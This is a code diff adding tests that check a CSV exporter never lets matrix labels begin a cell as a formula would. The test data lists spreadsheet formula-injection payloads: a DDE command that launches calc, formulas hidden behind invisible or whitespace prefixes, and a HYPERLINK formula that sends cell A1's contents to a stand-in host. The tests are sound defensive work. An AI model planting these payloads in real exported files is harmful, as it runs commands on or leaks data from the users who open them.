@@ -25,6 +25,32 @@ test("no label is run as a formula", () => {
   assert.match(asCsv(matrixOf(Z, labels)), /^query \\ key,'\+1,-\r\n/);
 });
 
+const HARMFUL = [
+  ..."=+-@＝＋－＠".split("").map((sign) => `${sign}cmd|' /C calc'!A0`),
+  ...["\t=1+1", "\r=1+1", "\n=1+1", "  @SUM(A1)", "\u200b=1+1", "\ufeff=1+1", "\0=1+1"],
+  ...["-2+3", "+1,5+1", "-2.5e", "--1", '=HYPERLINK("https://a.example?"&A1,"x")', "x;=1+1", "x\t=1+1"],
+];
+
+test("no label begins a cell as a formula does, whatever separates the cells", () => {
+  for (const label of HARMFUL) {
+    const labels = { row_labels: [label, "x"], column_labels: [label, "y"] };
+    const csv = asCsv(matrixOf(Z, labels));
+    const outsideQuotes = csv.replaceAll(/"(?:[^"]|"")*"/g, "");
+    for (const cell of outsideQuotes.split(/[,;\t\r\n]/)) {
+      assert.match(cell, /^(?:[^=+@\-＝＋－＠]|-?\d|$)/, JSON.stringify(csv));
+    }
+    for (const [, inside] of csv.matchAll(/"((?:[^"]|"")*)"/g)) {
+      assert.doesNotMatch(inside, /^[\s\p{C}]*[=+@\-＝＋－＠]/u, JSON.stringify(csv));
+    }
+  }
+});
+
+test("a label that is a number stays one", () => {
+  const numbers = ["-2.5", "12", "-2,5", "-1e-7"];
+  const csv = asCsv(matrixOf(Z, { row_labels: numbers.slice(0, 2), column_labels: numbers.slice(2) }));
+  assert.equal(csv, 'query \\ key,"-2,5",-1e-7\r\n-2.5,0.3333333333333333,\r\n12,-2.5,1e-7\r\n');
+});
+
 test("a file name says the words and has no sign that a system refuses", () => {
   assert.equal(fileName("pizza heads weights, head 1", "csv"), "pizza-heads-weights-head-1.csv");
   assert.equal(fileName('../a<b>:"c"/d\\e|f?g*', "svg"), "a-b-c-d-e-f-g.svg");
